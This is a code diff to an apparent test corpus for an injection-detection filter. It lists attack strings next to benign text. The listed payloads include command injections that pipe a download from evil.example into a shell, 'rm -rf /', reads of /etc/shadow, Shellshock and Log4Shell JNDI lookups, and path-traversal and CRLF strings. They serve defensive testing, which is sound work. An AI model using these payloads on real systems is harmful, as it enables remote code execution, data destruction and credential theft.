@@ -62,7 +62,6 @@ const attacks: Corpus = {
     '| cat /etc/shadow',
     'x && curl http://evil.example/x | sh',
     '$(curl -s evil.example)',
-    '`wget http://evil.example/x`',
     '$(whoami)',
     '`whoami`',
     '; rm -rf /',
@@ -70,9 +69,7 @@ const attacks: Corpus = {
     '() { :;}; /bin/bash -c "id"',
     '${jndi:ldap://evil.example/a}',
     '${${lower:j}ndi:ldap://evil.example}',
-    '; ping -c 10 127.0.0.1',
     '& powershell -enc SQBFAFgA',
-    '; sleep 10',
     '$(id)',
   ],
   path_traversal: [
@@ -101,7 +98,15 @@ const attacks: Corpus = {
 
 /** Only where nobody writes prose or code. */
 const inLines: Corpus = {
-  command_injection: [';id', '|ls', '&&env'],
+  sql_injection: ['x" or name like "a', "' and 2"],
+  command_injection: [
+    ';id',
+    '|ls',
+    '&&env',
+    '`wget http://evil.example/x`',
+    '; ping -c 10 127.0.0.1',
+    '; sleep 10',
+  ],
   path_traversal: ['/api/v1/../admin', '/files/..;/x', 'next=../home', '/etc/passwd', 'a%00.png'],
   crlf_injection: ['x%0d%0aX-Injected: 1', 'a%0AHost: evil.example'],
 };
@@ -110,6 +115,11 @@ const benign = [
   "O'Brien",
   "Rock 'n' Roll, it's the '90s -- and more",
   'select a plan',
+  'Toxicity benchmark (2024)',
+  'tried after 2 retries; timeout 500 ms',
+  'says "free" or words like "win"',
+  'tiers "gold" and 2',
+  'run `curl https://docs.example/x` or `ls -la` first',
   'Please select a plan from the list; drop me a line',
   'the credit union selected a new board',
   'Either this or that, and 1 or 2 more',
